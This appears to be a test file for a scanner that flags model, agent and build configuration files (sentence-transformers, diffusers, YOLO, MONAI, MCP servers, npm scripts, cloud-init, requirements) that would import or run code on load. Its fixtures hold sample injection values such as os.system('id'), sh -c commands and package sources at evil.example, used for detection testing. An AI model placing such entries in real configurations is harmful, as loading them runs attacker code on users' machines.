import { describe, expect, test } from 'vitest';
import { scanFiles } from '../../../../core/verification/scan.ts';
import { json } from '../configurations.ts';
import { fileOf } from '../samples.ts';

const rulesOf = (name: string, content: string): readonly string[] =>
  scanFiles([fileOf(name, content)]).findings.map(({ rule }) => rule);

describe('what a loader imports, evaluates or runs is a finding', () => {
  test.each<[string, string, string, string]>([
    [
      'a module of sentence-transformers without a number',
      'modules.json',
      'config-import',
      json([{ name: '0', path: '', type: 'evil.Transformer' }]),
    ],
    [
      'a component of diffusers without the name of the pipeline',
      'model_index.json',
      'config-remote-code',
      json({ unet: ['unet_evil', 'Model'] }),
    ],
    [
      'a component of a pipeline by an older name',
      'model_index.json',
      'config-remote-code',
      json({ _class_name: 'StableDiffusionPipelineSafe', evil: ['evil', 'Model'] }),
    ],
    [
      'a kernel of the hub for experts',
      'config.json',
      'config-remote-code',
      json({ experts_implementation: 'evil/kernel' }),
    ],
    ['a module and a name', 'a.json', 'config-import', json({ __module__: 'os', __name__: 'system' })],
    ['a module and a name in YAML', 'a.yaml', 'config-import', 'step:\n  module: subprocess\n  func: getoutput\n'],
    [
      'a module without a dot, with arguments',
      'a.json',
      'config-import',
      json({ module: 'evil', attr: 'x', kwargs: {} }),
    ],
    ['plugins of axolotl', 'axolotl.yaml', 'config-import', 'base_model: x\nplugins:\n  - evil.mod.Plugin\n'],
    ['callbacks of a proxy', 'a.yaml', 'config-import', 'litellm_settings:\n  callbacks: evil.handler\n'],
    ['a worker of vLLM', 'a.yaml', 'config-import', 'model: x\nworker-extension-cls: evil.Worker\n'],
    [
      'a handler of logging',
      'log.json',
      'config-import',
      json({ version: 1, handlers: { a: { class: 'evil.Handler' } } }),
    ],
    [
      'layers of YOLO',
      'yolo.yaml',
      'config-import',
      "backbone:\n  - [-1, 1, \"__import__('os').system('id')\", [64]]\n",
    ],
    ['an activation of YOLO', 'yolo.yaml', 'config-import', "nc: 80\nactivation: eval('nn.SiLU()')\n"],
    ['an import of a bundle of MONAI', 'inference.json', 'config-import', json({ imports: ['$import os'] })],
    [
      'a walk through modules in a bundle of MONAI',
      'a.json',
      'config-import',
      json({ run: "$monai.utils.os.system('id')" }),
    ],
    ['a call of a bundle of MONAI', 'inference.yaml', 'config-import', "run: $os.system('id')\n"],
    [
      'an expression over internals',
      'a.json',
      'config-import',
      json({ transform: '().__class__.__base__.__subclasses__()' }),
    ],
    [
      'SQL that calls Java',
      'metadata',
      'config-import',
      json({
        class: 'org.apache.spark.ml.feature.SQLTransformer',
        paramMap: { statement: "SELECT reflect('java.lang.System', 'exit', 1) FROM __THIS__" },
      }),
    ],
    [
      'examples of LangChain from elsewhere',
      'a.json',
      'config-path',
      json({ _type: 'few_shot', examples: '../../x.yaml' }),
    ],
    [
      'servers of an agent',
      '.mcp.json',
      'config-remote-code',
      json({ mcpServers: { x: { command: 'sh', args: ['-c', 'id'] } } }),
    ],
    [
      'hooks of an agent',
      'settings.json',
      'config-remote-code',
      json({ hooks: { Stop: [{ hooks: [{ type: 'command', command: 'id' }] }] } }),
    ],
    [
      'a kernel of Jupyter',
      'kernel.json',
      'config-remote-code',
      json({ argv: ['sh', '-c', 'id'], display_name: 'x', language: 'python' }),
    ],
    ['scripts of npm before it packs', 'package.json', 'config-remote-code', json({ scripts: { prepare: 'id' } })],
    ['the first start of a machine', 'user-data', 'config-remote-code', '#cloud-config\nruncmd:\n- id\n'],
    [
      'a script of a workflow of Kubernetes',
      'a.yaml',
      'config-remote-code',
      'apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n  - script:\n      source: id\n',
    ],
  ])('%s', (_, name, rule, content) => {
    expect(rulesOf(name, content)).toContain(rule);
  });

  test.each([
    './local.whl\n',
    'https://evil.example/numpy-1-py3-none-any.whl\n',
    'evil-1-py3-none-any.whl\n',
    '${EVIL}\n',
    '--pypi https://evil.example/simple\nnumpy\n',
    'this is no requirement\ngit+https://evil.example/x\n',
  ])('a requirement by a file that is named so: %j', (content) => {
    expect(rulesOf('model/requirements.txt', content)).toEqual(['requirements-source']);
  });
});

test.each<[string, string, string]>([
  [
    'requirements',
    'requirements.txt',
    '# of the model\nnumpy==2.0\nscikit-learn>=1.5; python_version > "3.9"\n--prefer-binary\n',
  ],
  ['parts of files', 'a.json', json([{ name: 'a', path: 'b', type: 'file' }])],
  [
    'modules of sentence-transformers',
    'modules.json',
    json([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]),
  ],
  [
    'a pipeline of diffusers',
    'model_index.json',
    json({
      _class_name: 'FluxPipeline',
      _diffusers_version: '0.31',
      scheduler: ['diffusers', 'FlowMatchEulerDiscreteScheduler'],
    }),
  ],
  [
    'how attention is computed',
    'config.json',
    json({ attn_implementation: 'sdpa', experts_implementation: 'grouped_mm' }),
  ],
  ['types of Python', 'schema.json', json({ module: 'builtins', class: 'dict' })],
  ['the metadata of a package', 'METADATA', 'Metadata-Version: 2.4\nName: x\nImport-Name: x\n'],
  ['expressions of another language', 'a.json', json({ '/properties/Key': '$lowercase(Key)', id: '$join(["a", Id])' })],
  ['plugins of coverage', 'pyproject.toml', '[tool.coverage.run]\nplugins = ["Cython.Coverage"]\n'],
  ['no commands of a machine', 'a.yaml', 'initialization_commands: []\nsetup_commands: []\n'],
  ['hooks of a network', 'a.json', json({ hooks: [1, 2], callbacks: ['early_stopping'], plugins: [] })],
  ['callbacks of Lightning', 'a.yaml', 'callbacks:\n  - lightning.pytorch.callbacks.ModelCheckpoint\n'],
  [
    'prices and formulas',
    'a.json',
    json({ price: '$5 (or more)', formula: '$f(x)$ is $g(x)$', ref: { $ref: '#/a(b)' }, shell: '$(HOME)' }),
  ],
  [
    'words about evaluation',
    'a.json',
    json({
      mode: 'model.eval()',
      loss: 'retrieval (mean)',
      path: "os.path.join('a', 'b')",
      note: 'it was compiled (fast)',
    }),
  ],
  [
    'a statement of Spark',
    'metadata',
    json({
      class: 'org.apache.spark.ml.feature.SQLTransformer',
      paramMap: { statement: 'SELECT *, a + b AS c FROM __THIS__' },
    }),
  ],
  ['an answer about Python', 'a.json', json({ prompt: "__import__('os').system('id')" })],
])('%s: clean', (_, name, content) => {
  expect(scanFiles([fileOf(name, content)])).toMatchObject({ verdict: 'clean', findings: [] });
});
